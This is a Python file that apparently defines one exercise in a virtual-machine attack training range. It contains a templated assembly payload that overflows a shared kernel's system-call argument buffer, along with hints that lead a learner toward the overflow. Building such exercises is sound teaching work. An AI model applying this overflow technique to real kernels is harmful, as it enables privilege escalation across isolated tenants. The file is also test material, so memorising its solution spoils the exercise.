"""A fault in the kernel that carries out system calls: whose kernel is it?"""

from vmwidgets.model.range.attack import Attack
from vmwidgets.model.words import said

SHARED_KERNEL = Attack(
    id="shared_kernel",
    title=said("a fault in the kernel below"),
    code="""
    mov rsi, {page_bytes}
    mov rbx, 0x4141414141414141
    mov rcx, 52
fill:
    mov [rsi], rbx
    add rsi, 8
    dec rcx
    jnz fill
    mov rax, {call_system_call}
    mov rdi, {page_bytes}       ; the argument
    mov rsi, {argument_bytes}
    add rsi, {argument_distance}
    add rsi, 8                  ; its length
    vmcall
""",
    hints=(
        said("Who carries out your system calls?"),
        said("If that kernel falls into your hands: whom else does it serve?"),
        said("Make a system call with an argument of argument_bytes + argument_distance + 8 bytes."),
    ),
)
"""Makes a system call whose argument is longer than the kernel's buffer for it."""
